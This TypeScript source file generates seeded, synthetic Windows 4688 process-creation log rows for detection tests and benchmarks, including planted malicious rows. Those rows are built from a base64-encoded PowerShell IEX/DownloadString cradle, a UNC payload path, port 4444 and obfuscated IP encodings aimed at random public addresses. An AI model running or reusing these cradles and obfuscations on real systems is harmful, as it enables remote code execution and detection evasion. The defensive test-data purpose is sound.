/**
 * A deterministic (seeded) generator of realistic SecurityEvent 4688 rows for tests, `npm start` and the benchmark.
 */
import { seededRandom } from '../seededRandom.js';
import { BENIGN, MALICIOUS, type AddressForm } from './securityEventTemplates.js';

/** One generated row: the SecurityEvent columns a 4688 event fills (a subset of the 218). */
export interface SecurityEventRow {
  readonly TimeGenerated: string;
  readonly EventID: number;
  readonly Activity: string;
  readonly Computer: string;
  readonly Account: string;
  readonly AccountType: string;
  readonly SubjectUserName: string;
  readonly SubjectDomainName: string;
  readonly Process: string;
  readonly NewProcessName: string;
  readonly ParentProcessName: string;
  readonly CommandLine: string;
  readonly TokenElevationType: string;
  readonly EventSourceName: string;
  readonly Channel: string;
  readonly Type: string;
}

export interface GenerateOptions {
  readonly rows: number;
  readonly seed: number;
  readonly start: Date;
  readonly days: number;
  /** Share of malicious lines (default 0.005). */
  readonly maliciousRate?: number;
}

export interface GeneratedSample {
  readonly rows: SecurityEventRow[];
  /** Normalized external addresses (dotted quad / RFC 5952) that occur in malicious lines, sorted. */
  readonly plantedIps: string[];
}

// First octets of ranges that are globally routable (no special-purpose, documentation or CGNAT space in them).
const PUBLIC_FIRST_OCTETS = [5, 23, 31, 37, 45, 46, 62, 77, 78, 80, 81, 82, 85, 89, 91, 93, 94, 95, 104, 109, 116, 121, 138, 139, 141, 146, 151, 154, 157, 159, 162, 164, 167, 176, 178, 185, 188, 193, 194, 195, 212, 213, 217];
const DEPARTMENTS = ['FIN', 'HR', 'ENG', 'OPS', 'SALES', 'IT'];
const FIRST_NAMES = ['alice', 'bob', 'carol', 'dave', 'erin', 'frank', 'grace', 'heidi', 'ivan', 'judy', 'mallory', 'oscar', 'peggy', 'trent', 'victor', 'wendy'];
const ACTIVITY = '4688 - A new process has been created.';

interface Planted {
  readonly v4: readonly number[] | undefined;
  readonly v6: string | undefined;
  readonly normalized: string;
}

function utf16Base64(text: string): string {
  return Buffer.from(text, 'utf16le').toString('base64');
}

// PowerShell accepts any unambiguous abbreviation of -EncodedCommand, with - or /.
const ENCODED_SWITCHES = ['-EncodedCommand', '-enc', '-e', '-ec', '-EncodedC', '/enc'];

function renderAddress(p: Planted, form: AddressForm, variant: number): string {
  if (form === 'ipv6') return p.v6!;
  const [a, b, c, d] = p.v4!;
  const dotted = `${a}.${b}.${c}.${d}`;
  const value = ((a! << 24) >>> 0) + (b! << 16) + (c! << 8) + d!;
  switch (form) {
    case 'dotted':
      return dotted;
    case 'url':
      return `http://${dotted}/a.ps1`;
    case 'unc':
      return `\\\\${dotted}\\share\\payload.exe`;
    case 'hostPort':
      return `${dotted}:4444`;
    case 'keyValue':
      return `server=${dotted}`;
    case 'hex':
      return `0x${value.toString(16).padStart(8, '0')}`;
    case 'decimal':
      return String(value);
    case 'octal':
      return [a, b, c, d].map((o) => `0${o!.toString(8)}`).join('.');
    case 'encoded':
      return `${ENCODED_SWITCHES[variant % ENCODED_SWITCHES.length]} ${utf16Base64(`IEX (New-Object Net.WebClient).DownloadString('http://${dotted}/s.ps1')`)}`;
  }
}

/**
 * Yields `rows` rows spread uniformly over `days` days from `start`, one at a time (a million rows never sit in memory
 * together); the same options give the same rows. Each planted external address is added to `planted` as it is used.
 */
export function* securityEventRows(options: GenerateOptions, planted: Set<string> = new Set()): Generator<SecurityEventRow> {
  const random = seededRandom(options.seed);
  const pick = <T>(items: readonly T[]): T => items[Math.floor(random() * items.length)]!;
  const int = (min: number, max: number) => min + Math.floor(random() * (max - min + 1));

  const hostCount = Math.max(5, Math.min(400, Math.ceil(options.rows / 500)));
  const hosts = Array.from({ length: hostCount }, (_, i) =>
    i % 10 === 0 ? `SRV-APP${String(i / 10 + 1).padStart(2, '0')}.contoso.local` : `WS-${pick(DEPARTMENTS)}-${String(i + 100)}.contoso.local`,
  );
  const users = Array.from({ length: Math.max(8, Math.ceil(hostCount * 0.8)) }, (_, i) => `${pick(FIRST_NAMES)}${i}`);

  // A small pool of attacker addresses, reused across hosts and days (skewed: a few recur often).
  const poolSize = Math.max(8, Math.min(300, Math.ceil(options.rows / 4000)));
  const pool: Planted[] = Array.from({ length: poolSize }, (_, i) => {
    if (i % 7 === 6) {
      const groups = [0x2a00 + int(0, 15), ...Array.from({ length: 7 }, () => int(1, 0xffff))];
      const text = groups.map((g) => g.toString(16)).join(':');
      return { v4: undefined, v6: text, normalized: text };
    }
    const octets = [pick(PUBLIC_FIRST_OCTETS), int(0, 255), int(0, 255), int(10, 254)];
    return { v4: octets, v6: undefined, normalized: octets.join('.') };
  });
  const v4Pool = pool.filter((p) => p.v4);
  const v6Pool = pool.filter((p) => p.v6);

  const rate = options.maliciousRate ?? 0.005;
  const spanMs = options.days * 86_400_000;
  const startMs = options.start.getTime();
  for (let i = 0; i < options.rows; i++) {
    const computer = hosts[Math.floor(random() ** 1.3 * hosts.length)]!;
    const user = pick(users);
    const system = random() < 0.1;
    let path: string;
    let commandLine: string;
    if (random() < rate) {
      const [p, form, template] = pick(MALICIOUS);
      const candidates = form === 'ipv6' ? v6Pool : v4Pool;
      const address = candidates[Math.floor(random() ** 2 * candidates.length)]!;
      planted.add(address.normalized);
      path = p;
      commandLine = template.replace('{ip}', renderAddress(address, form, int(0, 1000)));
    } else {
      const [p, template] = pick(BENIGN);
      path = p;
      commandLine = template
        .replace('{user}', user)
        .replace('{n}', String(int(0, 254)))
        .replace(/\{m\}/g, String(int(10, 254)));
    }
    const process = path.slice(path.lastIndexOf('\\') + 1);
    yield {
      TimeGenerated: new Date(startMs + Math.floor(random() * spanMs)).toISOString(),
      EventID: 4688,
      Activity: ACTIVITY,
      Computer: computer,
      Account: system ? 'NT AUTHORITY\\SYSTEM' : `CONTOSO\\${user}`,
      AccountType: system ? 'Machine' : 'User',
      SubjectUserName: system ? 'SYSTEM' : user,
      SubjectDomainName: system ? 'NT AUTHORITY' : 'CONTOSO',
      Process: process,
      NewProcessName: path,
      ParentProcessName: random() < 0.7 ? 'C:\\Windows\\explorer.exe' : 'C:\\Windows\\System32\\cmd.exe',
      CommandLine: commandLine,
      TokenElevationType: '%%1936',
      EventSourceName: 'Microsoft-Windows-Security-Auditing',
      Channel: 'Security',
      Type: 'SecurityEvent',
    };
  }
}

/** All `rows` rows at once, with the planted addresses; for tests and benchmarks of modest size. */
export function generateSecurityEvents(options: GenerateOptions): GeneratedSample {
  const planted = new Set<string>();
  const rows: SecurityEventRow[] = [];
  for (const row of securityEventRows(options, planted)) rows.push(row);
  return { rows, plantedIps: Array.from(planted).sort() };
}
